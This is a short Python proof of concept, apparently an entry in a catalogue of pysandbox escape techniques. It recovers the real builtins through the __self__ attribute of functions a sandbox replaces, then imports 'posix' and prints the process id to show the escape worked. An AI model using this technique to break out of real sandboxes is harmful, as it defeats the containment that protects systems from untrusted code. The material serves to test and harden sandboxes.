# technique: __import__.__self__, compile.__self__, of each function that a sandbox replaces
# goal: builtins
# source: pysandbox, builtin __self__
for function in __import__, open, compile, exec, eval, getattr, input, globals:
    owner = getattr(function, '__self__', None)
    if hasattr(owner, '__import__') and hasattr(owner, 'exec'):
        print('ESCAPED pid=%d' % owner.__import__('posix').getpid())
        break
